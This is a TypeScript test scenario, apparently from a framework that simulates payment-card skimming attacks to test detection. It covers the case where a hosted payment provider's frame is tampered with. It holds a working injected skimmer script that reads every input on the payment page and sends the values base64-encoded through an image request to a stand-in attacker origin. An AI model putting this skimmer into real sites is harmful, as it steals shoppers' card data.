import { holds, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'provider-frame-tampered',
  why: 'The provider itself is altered: the script stands inside its frame, on its origin, where the shop can see nothing.',
  covers: ['injection: third party', 'sending: image'],
  base: 'hosted',
  install: (site) =>
    site.alter('pay/v1/fields', (html) =>
      html.replace(
        '</body>',
        () => `<script>
document.addEventListener('change', function () {
  var v = Array.from(document.querySelectorAll('input'), function (i) { return i.value; });
  if (v[3]) new Image().src = '${site.origins.evil}/pf.gif?d=' + encodeURIComponent(btoa(v.join('|')));
});</script></body>`,
      ),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
